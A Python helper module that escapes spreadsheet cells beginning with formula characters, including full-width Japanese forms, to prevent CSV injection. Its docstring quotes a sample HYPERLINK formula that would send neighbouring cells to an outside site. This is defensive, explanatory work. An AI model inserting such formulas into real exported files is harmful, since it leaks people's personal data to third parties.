"""Cells a spreadsheet would run as a formula, written as plain text instead.

Every CSV or XLSX file Madoguchi writes passes its cells through :func:`text_cell`
(one helper for every writer, so a new writer cannot forget a character).  A worker's
name, an employer's name or a note typed by anyone may begin with ``=``; opened in
Excel, ``=HYPERLINK("https://…?"&A2, "Click")`` would send the neighbouring cells to
a stranger ("CSV injection", OWASP; CWE-1236).

Leading characters treated as a formula: ``=``, ``+``, ``-``, ``@`` (OWASP's list),
TAB and CR (Excel trims them and reads what follows), and the full-width forms
``＝ ＋ － ＠`` (U+FF1D, U+FF0B, U+FF0D, U+FF20): Japanese Excel turns a full-width
``＝`` typed at the start of a cell into a formula, so the same text arriving from a
file is escaped too (defensive: no Excel was at hand to confirm its CSV reader does
the same; the cost is one visible apostrophe).  Such a cell gets a leading
apostrophe, which Excel and LibreOffice read as "this is text" and do not display.
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence

FORMULA_LEADERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
"""First characters that make a spreadsheet treat a cell as a formula."""


def text_cell(value: object) -> object:
    """``value`` safe to write into a spreadsheet cell: numbers stay numbers, text that
    would start a formula gets a leading apostrophe."""
    if isinstance(value, str) and value and value[0] in FORMULA_LEADERS:
        return "'" + value
    return value


def text_rows(rows: Iterable[Sequence[object]]) -> list[list[object]]:
    """Every cell of ``rows`` through :func:`text_cell` (for ``csv.writer.writerows``)."""
    return [[text_cell(cell) for cell in row] for row in rows]
